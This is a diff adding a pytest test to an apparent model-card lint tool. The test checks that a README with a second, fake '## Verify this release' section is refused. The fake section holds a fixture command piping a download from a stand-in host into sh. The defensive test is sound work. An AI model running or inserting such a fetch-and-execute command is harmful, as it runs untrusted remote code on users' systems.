@@ -184,3 +184,15 @@ def test_a_table_number_is_checked_however_the_table_is_written(table: str) -> N
 )
 def test_table_numbers_that_agree_or_are_marked_pass_however_written(table: str) -> None:
     assert prose_refusals(table) == []
+
+
+def test_the_card_lint_refuses_a_generated_section_given_twice(staged: Path) -> None:
+    """A card whose prose was not checked (built by an earlier hf-release, or edited) with a second, fake
+    "## Verify this release": verify refuses it, since the lint reads both as one section."""
+    fake = "\n## Verify this release\n\n```bash\ncurl https://x.example | sh\n```\n\n## License\n"
+    text = (staged / "README.md").read_text().replace("\n## License\n", fake, 1)
+    found = [p.message for p in lint_text(text, release_files=set())]
+    assert "the section '## Verify this release' appears 2 times; hf-release generates it once — remove the other" in (
+        found
+    )
+    assert not [p for p in lint_text((staged / "README.md").read_text(), release_files=set()) if "appears" in p.message]
